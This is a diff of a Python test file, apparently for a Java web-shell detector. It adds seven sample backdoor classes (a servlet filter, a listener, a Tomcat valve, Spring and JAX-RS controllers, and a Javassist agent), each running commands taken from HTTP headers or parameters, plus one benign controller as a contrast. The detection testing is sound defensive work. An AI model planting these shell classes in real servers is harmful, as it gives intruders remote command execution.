@@ -341,3 +341,94 @@ public class Cgi extends javax.servlet.http.HttpServlet {
     Process p = Runtime.getRuntime().exec(new String[] {script});
   }
 }""", "Cgi.java")
+
+
+# --- classes: memory shells, controllers, agents -------------------------------------------------------
+
+CLASSES = {
+    "filter": """package x;
+import javax.servlet.*; import javax.servlet.http.*;
+public class Evil implements Filter {
+  public void init(FilterConfig c) {}
+  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
+      throws java.io.IOException, ServletException {
+    String cmd = ((HttpServletRequest) request).getHeader("X-Cmd");
+    if (cmd != null) { Process p = new ProcessBuilder("/bin/sh", "-c", cmd).start(); return; }
+    chain.doFilter(request, response);
+  }
+  public void destroy() {}
+}""",
+    "listener": """package x;
+import javax.servlet.*; import javax.servlet.http.*;
+public class L implements ServletRequestListener {
+  public void requestInitialized(ServletRequestEvent sre) {
+    HttpServletRequest r = (HttpServletRequest) sre.getServletRequest();
+    try { if (r.getParameter("c") != null) Runtime.getRuntime().exec(r.getParameter("c")); } catch (Exception e) {}
+  }
+  public void requestDestroyed(ServletRequestEvent sre) {}
+}""",
+    "valve": """package x;
+public class V extends org.apache.catalina.valves.ValveBase {
+  public void invoke(org.apache.catalina.connector.Request request, org.apache.catalina.connector.Response response)
+      throws java.io.IOException, javax.servlet.ServletException {
+    String c = request.getParameter("c");
+    if (c != null) Runtime.getRuntime().exec(c); else getNext().invoke(request, response);
+  }
+}""",
+    "spring-param": """package x;
+import org.springframework.web.bind.annotation.*;
+@RestController public class C {
+  @GetMapping("/x") public String x(@RequestParam String cmd) throws Exception {
+    return new String(Runtime.getRuntime().exec(cmd).getInputStream().readAllBytes());
+  }
+}""",
+    "spring-body": """package x;
+import org.springframework.web.bind.annotation.*;
+@RestController public class C {
+  @PostMapping("/y") public Object y(@RequestHeader("X-C") String c, @RequestBody String body) throws Exception {
+    return new javax.script.ScriptEngineManager().getEngineByName("js").eval(body);
+  }
+}""",
+    "jaxrs": """package x;
+import javax.ws.rs.*;
+@Path("/r") public class R {
+  @GET public String r(@QueryParam("c") String c) throws Exception { return helper(c); }
+  private String helper(String s) throws Exception { Runtime.getRuntime().exec(s); return "ok"; }
+}""",
+    "javassist-agent": """package x;
+import java.lang.instrument.*; import javassist.*;
+public class Agent implements ClassFileTransformer {
+  public byte[] transform(ClassLoader l, String name, Class<?> c, java.security.ProtectionDomain d, byte[] b) {
+    try {
+      CtClass cc = ClassPool.getDefault().get("org.apache.catalina.core.ApplicationFilterChain");
+      CtMethod m = cc.getDeclaredMethod("internalDoFilter");
+      m.insertBefore("javax.servlet.http.HttpServletRequest req = (javax.servlet.http.HttpServletRequest) $1;"
+          + " String cmd = req.getParameter(\\"cmd\\"); if (cmd != null) { Runtime.getRuntime().exec(cmd); }");
+      return cc.toBytecode();
+    } catch (Exception e) { return null; }
+  }
+}""",
+}
+
+
+@pytest.mark.parametrize("case", sorted(CLASSES))
+def test_shell_classes(case):
+    assert_shell(CLASSES[case], "Shell.java")
+
+
+def test_benign_spring_controller_with_request_params():
+    assert_benign("""package org.example;
+import org.springframework.web.bind.annotation.*;
+@RestController public class Owners {
+  private final OwnerRepository repo;
+  @GetMapping("/owners") public java.util.List<Owner> find(@RequestParam String lastName, @RequestHeader("X-Tenant") String t) {
+    return repo.findByLastName(lastName);
+  }
+  @PostMapping("/owners/{id}/photo") public void photo(@PathVariable int id, @RequestBody byte[] data) throws Exception {
+    java.nio.file.Files.write(java.nio.file.Paths.get("/srv/photos", id + ".jpg"), data);
+  }
+  @GetMapping("/report") public String report(@RequestParam String format) throws Exception {
+    Process p = new ProcessBuilder("/usr/bin/make-report", "--format=pdf").start();
+    return format;
+  }
+}""", "Owners.java")
